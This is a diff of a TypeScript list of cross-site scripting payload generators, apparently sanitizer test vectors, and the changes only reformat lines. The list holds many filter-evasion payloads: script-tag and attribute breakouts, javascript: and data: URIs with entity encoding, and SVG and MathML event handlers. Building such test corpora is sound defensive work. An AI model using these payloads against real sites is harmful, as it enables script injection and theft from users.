@@ -30,7 +30,7 @@ const VECTORS: Vector[] = [
   ['script nested split', (c) => `<scr<script>ipt>${c}</scr</script>ipt>`],
   ['double open', (c) => `<<script>${c}//<</script>`],
   ['attribute breakout "', (c) => `"><script>${c}</script>`],
-  ['attribute breakout \'', (c) => `'><script>${c}</script>`],
+  ["attribute breakout '", (c) => `'><script>${c}</script>`],
   ['close title', (c) => `</title><script>${c}</script>`],
   ['close textarea', (c) => `</textarea><script>${c}</script>`],
   ['close script (JSON-LD)', (c) => `</script><script>${c}</script>`],
@@ -93,7 +93,10 @@ const VECTORS: Vector[] = [
   ['iframe srcdoc', (c) => `<iframe srcdoc="&lt;img src=x onerror=${c}&gt;"></iframe>`],
   ['iframe data:', (c) => `<iframe src="data:text/html,<script>${c}</script>"></iframe>`],
   ['embed javascript:', (c) => `<embed src="javascript:${c}">`],
-  ['embed data svg', (c) => `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c}'/>">`],
+  [
+    'embed data svg',
+    (c) => `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c}'/>">`,
+  ],
   ['object javascript:', (c) => `<object data="javascript:${c}"></object>`],
   ['object data html', (c) => `<object data="data:text/html;base64,${b64(`<script>${c}</script>`)}"></object>`],
   ['applet', (c) => `<applet code="javascript:${c}"></applet>`],
@@ -134,7 +137,10 @@ const VECTORS: Vector[] = [
   ['a leading control char', (c) => `<a href="&#x01;javascript:${c}">x</a>`],
   ['a leading space + SO', (c) => `<a href=" &#14; javascript:${c}">x</a>`],
   ['a &colon;', (c) => `<a href="javascript&colon;${c}">x</a>`],
-  ['a padded decimal no semicolons', (c) => `<a href="${[...'javascript:'].map((ch) => `&#${String(ch.charCodeAt(0)).padStart(7, '0')}`).join('')}${c}">x</a>`],
+  [
+    'a padded decimal no semicolons',
+    (c) => `<a href="${[...'javascript:'].map((ch) => `&#${String(ch.charCodeAt(0)).padStart(7, '0')}`).join('')}${c}">x</a>`,
+  ],
   ['a padded decimal', (c) => `<a href="${dec('javascript:', 5)}${c}">x</a>`],
   ['a hex entities', (c) => `<a href="${hex('javascript:')}${c}">x</a>`],
   ['a partial entity', (c) => `<a href=javas&#99;ript:${c}>x</a>`],
@@ -153,8 +159,15 @@ const VECTORS: Vector[] = [
   ['blockquote cite', (c) => `<blockquote cite="javascript:${c}">x</blockquote>`],
   ['svg a xlink:href', (c) => `<svg><a xlink:href="javascript:${c}"><text x=20 y=20>XSS</text></a></svg>`],
   ['svg a href', (c) => `<svg><a href="javascript:${c}"><text x=20 y=20>XSS</text></a></svg>`],
-  ['svg animate href', (c) => `<svg><animate xlink:href=#xx attributeName=href values="javascript:${c}" /><a id=xx><text x=20 y=20>XSS</text></a></svg>`],
-  ['svg use data', (c) => `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${c}' /&gt;&lt;/svg&gt;#x" /></svg>`],
+  [
+    'svg animate href',
+    (c) => `<svg><animate xlink:href=#xx attributeName=href values="javascript:${c}" /><a id=xx><text x=20 y=20>XSS</text></a></svg>`,
+  ],
+  [
+    'svg use data',
+    (c) =>
+      `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${c}' /&gt;&lt;/svg&gt;#x" /></svg>`,
+  ],
   ['math maction', (c) => `<math><maction actiontype="statusline" xlink:href="javascript:${c}">click</maction></math>`],
   ['math href', (c) => `<math href="javascript:${c}"><mtext>click</mtext></math>`],
   // CSS
